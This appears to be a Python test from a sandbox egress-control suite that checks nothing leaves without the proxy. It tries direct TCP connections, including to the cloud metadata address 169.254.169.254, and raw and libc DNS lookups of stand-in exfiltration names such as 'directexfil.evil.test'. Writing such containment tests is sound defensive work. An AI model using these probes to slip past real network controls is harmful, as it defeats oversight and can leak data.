#!/usr/bin/python3
# id: NP-23
# title: no proxy variables: direct IP egress, direct DNS, raw resolver, IPv6 literal
# class: boundary
# needs: proxy
# expect: nothing leaves without the proxy
# layer: proxy
import os, sys; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from px import *
for fam, a in ((2, ("93.184.216.66", 80)), (2, ("93.184.216.10", 443)), (10, ("2001:db8:66::66", 80)), (2, ("127.0.0.1", 8081)), (2, ("198.18.0.1", 80)), (2, ("169.254.169.254", 80))):
    try: s = socket.socket(fam, 1); s.settimeout(1); s.connect(a); s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"); r = s.recv(200); escaped("direct %s: %r" % (a, r[:30]))
    except OSError as e: print(a, e)
for srv in ("198.18.0.2", "127.0.0.53", "127.0.0.11"):
    try: s = socket.socket(2, 2); s.settimeout(1); s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\x0bdirectexfil\x04evil\x04test\0\0\1\0\1", (srv, 53)); r = s.recv(200)
    except OSError as e: print(srv, e); continue
    # a responder of the sandbox may say that there is no such name; that nothing left is checked in the log
    if len(r) > 7 and r[6:8] != b"\0\0": escaped("direct DNS " + srv)
try: print(socket.getaddrinfo("exfil-via-libc.evil.test", 80)); escaped("libc DNS")
except OSError as e: print(e)
blocked()
